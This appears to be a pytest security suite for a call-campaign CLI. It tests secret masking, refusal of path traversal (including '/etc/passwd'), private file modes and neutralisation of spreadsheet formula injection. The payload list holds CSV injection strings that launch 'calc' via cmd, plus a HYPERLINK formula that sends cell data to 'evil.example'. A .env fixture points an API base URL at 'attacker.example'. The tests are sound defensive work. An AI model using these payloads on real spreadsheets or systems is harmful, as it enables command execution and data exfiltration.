"""Issue 16: secrets refused in every spelling and never printed (item 4), spreadsheet-safe exports
(item 5), private file modes (item 6), and the trust model for .env files and definition paths
(item 3). Real SQLite files and real subprocesses."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import REPO

sys.path.insert(0, str(Path(__file__).parent))

PLANTED = [
    "PLANTED-LIVEKIT-7f3a",
    "PLANTED-ANTHROPIC-9c1d",
    "PLANTED-WEBHOOK-PW-44e2",
    "PLANTED-QUERY-TOKEN-1b7e",
    "PLANTED-DOTENV-SMTP-0a9c",
    "PLANTED-API-TOKEN-5d5d",
]


def _run(*args, cwd, env=None, umask: int | None = None, timeout=120):
    full = {
        k: v for k, v in os.environ.items() if not k.startswith(("CUSTOMARIO_", "LIVEKIT_", "ANTHROPIC_", "GOOGLE_"))
    }
    full.update({"PYTHONPATH": str(REPO)})
    full.update(env or {})
    return subprocess.run(
        [sys.executable, "-m", "customario", *map(str, args)],
        cwd=cwd,
        env=full,
        capture_output=True,
        text=True,
        timeout=timeout,
        preexec_fn=(lambda: os.umask(umask)) if umask is not None else None,
    )


# -- item 4: secrets ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "yaml_text",
    [
        "LIVEKIT_API_SECRET: {s}\n",
        "ANTHROPIC_API_KEY: {s}\n",
        "livekit-api-secret: {s}\n",
        "Livekit.Api.Secret: {s}\n",
        "anthropic:\n  api_key: {s}\n",
        "providers:\n  - name: twilio\n    auth-token: {s}\n",
        "smtp:\n  Password: {s}\n",
        "webhook_url: https://bob:{s}@hooks.example.com/x\n",
        "livekit_url: wss://user:{s}@lk.example.com\n",
        "webhook_url: https://hooks.example.com/x?token={s}\n",
    ],
)
def test_config_file_secrets_are_refused_in_every_spelling(tmp_path, yaml_text):
    from customario.config import load_settings
    from customario.errors import ConfigError

    (tmp_path / "customario.yaml").write_text("region: US\n" + yaml_text.format(s=PLANTED[0]))
    with pytest.raises(ConfigError) as err:
        load_settings(env={}, cwd=tmp_path, load_dotenv_file=False)
    assert "secrets do not belong in the config file" in err.value.render()
    assert PLANTED[0] not in err.value.render()


def test_ordinary_keys_that_look_a_little_like_secrets_are_accepted(tmp_path):
    from customario.config import load_settings

    (tmp_path / "customario.yaml").write_text(
        "region: US\nwebhook_url: https://hooks.example.com/x\nplugins:\n  loyalty:\n"
        "    max_tokens: 300\n    keyword: x\n    token_budget: 5\n    secret_santa: ''\n"
    )
    s = load_settings(env={}, cwd=tmp_path, load_dotenv_file=False)
    assert s.webhook_url == "https://hooks.example.com/x" and s.extra["plugins"]["loyalty"]["max_tokens"] == 300


def test_planted_secrets_never_appear_in_any_command_output(tmp_path, db_path):
    """Plant secrets in the environment, the project's .env and inside URLs, run every command that
    shows settings or reports a problem, and grep everything they print."""
    project = tmp_path / "proj"
    project.mkdir()
    (project / "customario.yaml").write_text("region: US\nstack: offline\nplugins:\n  loyalty:\n    note: fine\n")
    (project / ".env").write_text(f"CUSTOMARIO_SMTP_PASSWORD={PLANTED[4]}\nCUSTOMARIO_API_TOKEN={PLANTED[5]}\n")
    env = {
        "CUSTOMARIO_DB": str(db_path),
        "LIVEKIT_API_SECRET": PLANTED[0],
        "LIVEKIT_API_KEY": "APIkey",
        "LIVEKIT_URL": "ws://127.0.0.1:9",
        "ANTHROPIC_API_KEY": PLANTED[1],
        "CUSTOMARIO_WEBHOOK_URL": f"https://bob:{PLANTED[2]}@hooks.example.com/hook?token={PLANTED[3]}",
    }
    commands = [
        ["config", "show"],
        ["config", "show", "--json"],
        ["--help"],
        ["plugins", "--json"],
        ["db", "status"],
        ["doctor"],
        ["doctor", "--json"],
        ["campaign", "list"],
        ["-v", "config", "show"],
        ["--config", "missing.yaml", "config", "show"],
        ["--env-file", "nope.env", "config", "show"],
        ["leads", "import", "nope.csv", "--list", "x"],
        ["config", "show", "--bogus"],
        ["-vv", "doctor"],
        ["-vv", "config", "show", "--json"],
    ]
    seen = []
    for args in commands:
        r = _run(*args, cwd=project, env=env)
        seen.append((args, r.returncode))
        for secret in PLANTED:
            assert secret not in r.stdout and secret not in r.stderr, (args, secret)
    shown = json.loads(_run("config", "show", "--json", cwd=project, env=env).stdout)
    assert shown["smtp_password"] == "***" and shown["api_token"] == "***"  # the project .env was read
    assert shown["webhook_url"] == "https://***@hooks.example.com/hook?token=***"
    assert all(code != 1 for _args, code in seen), seen  # no internal errors either


# -- item 3: .env and definition paths ---------------------------------------------------------


def test_dotenv_is_read_only_from_the_project_folder_or_env_file(tmp_path, db_path):
    stray = tmp_path / "downloads"
    stray.mkdir()
    (stray / ".env").write_text("ANTHROPIC_BASE_URL=https://attacker.example\n")
    env = {"CUSTOMARIO_DB": str(db_path)}
    shown = json.loads(_run("config", "show", "--json", cwd=stray, env=env).stdout)
    assert shown["anthropic_base_url"] is None  # a .env where the command runs is ignored
    explicit = json.loads(_run("--env-file", stray / ".env", "config", "show", "--json", cwd=tmp_path, env=env).stdout)
    assert explicit["anthropic_base_url"] == "https://attacker.example"  # the user named it
    (stray / "customario.yaml").write_text("region: US\n")  # now it is a project: its .env counts
    shown = json.loads(_run("config", "show", "--json", cwd=stray, env=env).stdout)
    assert shown["anthropic_base_url"] == "https://attacker.example"
    other = tmp_path / "elsewhere"
    other.mkdir()
    viaconfig = json.loads(
        _run("--config", stray / "customario.yaml", "config", "show", "--json", cwd=other, env=env).stdout
    )
    assert viaconfig["anthropic_base_url"] == "https://attacker.example"
    missing = _run("--env-file", tmp_path / "none.env", "config", "show", cwd=other, env=env)
    assert missing.returncode == 3 and "does not exist" in missing.stderr


def _salon_copy(tmp_path: Path, profile: str) -> Path:
    src = REPO / "customario" / "campaigns" / "salon_reception"
    folder = tmp_path / "def"
    shutil.copytree(src / "knowledge", folder / "knowledge")
    text = (
        (src / "salon_reception.yaml")
        .read_text()
        .replace("business_profile: knowledge/business_profile.yaml", f"business_profile: {profile}")
    )
    (folder / "salon.yaml").write_text(text)
    return folder / "salon.yaml"


@pytest.mark.parametrize("profile", ["../secret.json", "/etc/passwd", "knowledge/../../secret.json", "link.json"])
def test_definition_paths_outside_the_definition_folder_are_refused(tmp_path, profile, cli):
    secret = tmp_path / "secret.json"
    secret.write_text('[{"question": "What is the admin password?", "answer": "hunter2"}]')
    path = _salon_copy(tmp_path, profile)
    (path.parent / "link.json").symlink_to(secret)  # a link that leads out counts as out
    r = cli("campaign", "validate", str(path))
    assert r.exit_code == 65, r.stdout + r.stderr
    assert "points outside the definition's folder" in r.stderr and profile in r.stderr


def test_a_stored_campaign_with_an_escaping_path_is_refused_at_run_time(tmp_path, db):
    from customario.definitions.catalog import add_campaign
    from customario.definitions.loader import parse_definition
    from customario.definitions.yamlio import load_yaml_mapping
    from customario.errors import DefinitionError
    from customario.escalation.kb_import import ensure_campaign_knowledge

    (tmp_path / "secret.json").write_text('[{"question": "q?", "answer": "hunter2"}]')
    good = _salon_copy(tmp_path, "knowledge/business_profile.yaml")
    data = load_yaml_mapping(good)
    data["settings"]["business_profile"] = "../secret.json"  # stored before the check existed
    stored, _ = add_campaign(db, parse_definition(data, str(good)), str(good))
    with pytest.raises(DefinitionError, match="points outside"):
        ensure_campaign_knowledge(db, stored)
    assert db.execute("SELECT COUNT(*) FROM kb_articles WHERE answer LIKE '%hunter2%'").fetchone()[0] == 0


def test_a_definition_path_inside_its_folder_still_works(tmp_path, db):
    from customario.definitions import load_definition
    from customario.definitions.catalog import add_campaign
    from customario.escalation.kb_import import ensure_campaign_knowledge

    path = _salon_copy(tmp_path, "knowledge/business_profile.yaml")
    stored, _ = add_campaign(db, load_definition(path), str(path))
    assert ensure_campaign_knowledge(db, stored).rows


# -- item 5: exports that attack spreadsheets --------------------------------------------------

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
]


def test_neutralise_follows_owasp_and_keeps_numbers():
    from customario.render.csvsafe import neutralise

    for p in PAYLOADS:
        assert neutralise(p) == "'" + p
    for keep in ["+1 646 555 0160", "+16465550160", "-12.5", "(212) 555-0101", "plain", "", "a=b", None, 7, -3.5]:
        assert neutralise(keep) == keep


def test_lead_export_and_rejects_neutralise_formulas_unless_raw(cli, tmp_path):
    leads = tmp_path / "leads.csv"
    with leads.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["name", "phone", "company", "notes"])
        w.writerow([PAYLOADS[0], "+1 212 555 0101", PAYLOADS[3], PAYLOADS[2]])
        w.writerow(["Bob", PAYLOADS[6], "Acme", PAYLOADS[1]])  # invalid phone: a reject
    rejects = tmp_path / "rejects.csv"
    assert cli("leads", "import", str(leads), "--list", "x", "--rejects", str(rejects)).exit_code == 0
    rej = list(csv.DictReader(rejects.open(newline="")))
    assert rej[0]["phone"] == "'" + PAYLOADS[6] and rej[0]["notes"] == "'" + PAYLOADS[1]
    out = tmp_path / "out.csv"
    assert cli("leads", "export", "-o", str(out)).exit_code == 0
    row = next(csv.DictReader(out.open(newline="")))
    assert row["name"] == "'" + PAYLOADS[0] and row["company"] == "'" + PAYLOADS[3] and row["e164"] == "+12125550101"
    assert json.loads(row["attributes"]) == {"notes": PAYLOADS[2]}  # JSON text starts with {: inert
    raw = cli("leads", "export", "--raw").stdout
    assert next(csv.DictReader(io.StringIO(raw)))["name"] == PAYLOADS[0]
    listing = cli("leads", "list", "--csv").stdout
    assert not any(cell.startswith(("=", "@")) for r in csv.reader(io.StringIO(listing)) for cell in r)
    rejects.unlink()
    assert cli("leads", "import", str(leads), "--list", "y", "--rejects", str(rejects), "--raw").exit_code == 0
    assert next(csv.DictReader(rejects.open(newline="")))["phone"] == PAYLOADS[6]


def test_typed_answers_in_response_exports_are_neutralised(cli, db, tmp_path):
    from evalfixtures import add_feedback_campaign, make_call

    stored = add_feedback_campaign(db)
    make_call(db, stored, {"recommend": 4, "improve": PAYLOADS[0]})
    db.conn.commit()
    for fmt in ("wide", "long", "qualtrics"):
        text = cli("export", "responses", "customer_feedback", "--format", fmt).stdout
        cells = [c for r in csv.reader(io.StringIO(text)) for c in r]
        assert "'" + PAYLOADS[0] in cells and PAYLOADS[0] not in cells, fmt
        raw = cli("export", "responses", "customer_feedback", "--format", fmt, "--raw").stdout
        assert PAYLOADS[0] in [c for r in csv.reader(io.StringIO(raw)) for c in r], fmt


# -- item 6: private by default ----------------------------------------------------------------


def _mode(p: Path) -> int:
    return p.stat().st_mode & 0o777


def test_database_exports_rejects_and_backups_are_private_under_a_loose_umask(tmp_path):
    data = tmp_path / "xdg"
    db = data / "customario" / "customario.db"
    env = {"XDG_DATA_HOME": str(data), "HOME": str(tmp_path)}
    leads = tmp_path / "leads.csv"
    leads.write_text("name,phone\nAnn,+1 212 555 0101\nBad,12\n")
    r = _run(
        "leads", "import", leads, "--list", "x", "--rejects", tmp_path / "rej.csv", cwd=tmp_path, env=env, umask=0o022
    )
    assert r.returncode == 0, r.stderr
    assert db.is_file() and _mode(db) == 0o600 and _mode(db.parent) == 0o700 and _mode(data) == 0o700
    for suffix in ("-wal", "-shm"):
        side = Path(str(db) + suffix)
        assert not side.exists() or _mode(side) == 0o600
    assert _mode(tmp_path / "rej.csv") == 0o600
    assert _run("leads", "export", "-o", tmp_path / "out.csv", cwd=tmp_path, env=env, umask=0o022).returncode == 0
    assert _mode(tmp_path / "out.csv") == 0o600
    assert _run("db", "backup", tmp_path / "b.db", cwd=tmp_path, env=env, umask=0o022).returncode == 0
    assert _mode(tmp_path / "b.db") == 0o600
    # WAL and SHM exist while a connection is open: they take the database file's mode
    from customario.store.db import open_db

    handle = open_db(db)
    try:
        handle.execute("INSERT INTO lists (name, created_at) VALUES ('w', '2026-01-01')")
        handle.conn.commit()
        assert _mode(Path(str(db) + "-wal")) == 0o600 and _mode(Path(str(db) + "-shm")) == 0o600
    finally:
        handle.close()
    # a stricter umask is respected
    assert _run("leads", "export", "-o", tmp_path / "strict.csv", cwd=tmp_path, env=env, umask=0o277).returncode == 0
    assert _mode(tmp_path / "strict.csv") == 0o400


def test_error_messages_carry_no_phone_numbers_or_emails_from_the_data(tmp_path, cli):
    phones = ["+1 646 555 0160", "6465550161", "212-555-0162"]
    emails = ["ann.secret@example.com", "bob@corp.example"]
    cases = {
        "headerless.csv": f"Ann,{phones[0]},{emails[0]}\nBob,{phones[1]},{emails[1]}\n",
        "nophone.csv": f"name,email\nAnn,{emails[0]}\nBob,{emails[1]}\n",
        "allbad.csv": f"name,phone\n{emails[0]},{emails[1]}\n{phones[2]}x,abc\n",
    }
    for name, text in cases.items():
        p = tmp_path / name
        p.write_text(text)
        for args in (["leads", "import", str(p), "--list", "x"], ["dnc", "import", str(p)]):
            r = cli(*args)
            blob = r.stdout + r.stderr if r.exit_code else r.stderr
            for secret in phones + emails + [d for d in ("6465550160", "6465550161", "2125550162")]:
                assert secret not in blob, (name, args, secret, blob)


# -- item 7: bounded values (landed with issue 15; checked here from YAML text) ---------------------


@pytest.mark.parametrize(
    "old,new",
    [
        ("max_cents: 500", "max_cents: 1000000000000000000000000000000"),
        ("weight: 3", "weight: .inf"),
        ("weight: 3", "weight: .nan"),
        ("max_attempts: 3", "max_attempts: 100000000000000000000"),
        ("busy: 30m", "busy: .inf"),
    ],
)
def test_unbounded_or_non_finite_numbers_in_a_definition_are_refused(tmp_path, old, new, cli):
    src = REPO / "customario" / "campaigns" / "customer_feedback" / "customer_feedback.yaml"
    text = src.read_text()
    assert old in text
    path = tmp_path / "c.yaml"
    path.write_text(text.replace(old, new, 1))
    r = cli("campaign", "validate", str(path))
    assert r.exit_code == 65, r.stdout + r.stderr
    assert "Traceback" not in r.stderr


def test_log_lines_and_error_lines_mask_secrets(monkeypatch, capsys):
    import logging

    from customario.config import SecretMaskingFilter, mask_secrets

    monkeypatch.setenv("CUSTOMARIO_TWILIO_AUTH_TOKEN", PLANTED[3])
    record = logging.LogRecord(
        "x",
        logging.INFO,
        __file__,
        1,
        "POST %s with %s",
        (f"https://bob:{PLANTED[2]}@hooks.example.com/x", PLANTED[3]),
        None,
    )
    assert SecretMaskingFilter().filter(record)
    line = record.getMessage()
    assert PLANTED[2] not in line and PLANTED[3] not in line and "https://***@hooks.example.com/x" in line
    assert mask_secrets("no secrets here: region US, 5 calls") == "no secrets here: region US, 5 calls"

    from typer.testing import CliRunner

    from customario.cli import build_app
    from customario.errors import ExternalServiceError

    app = build_app(include_plugins=False)

    @app.command("boom")
    def boom() -> None:
        raise ExternalServiceError(
            f"ConnectError: https://u:{PLANTED[2]}@h.example failed, token {PLANTED[3]}", "Retry"
        )

    r = CliRunner().invoke(app, ["boom"])
    assert r.exit_code == 5 and PLANTED[2] not in r.stderr and PLANTED[3] not in r.stderr and "***" in r.stderr
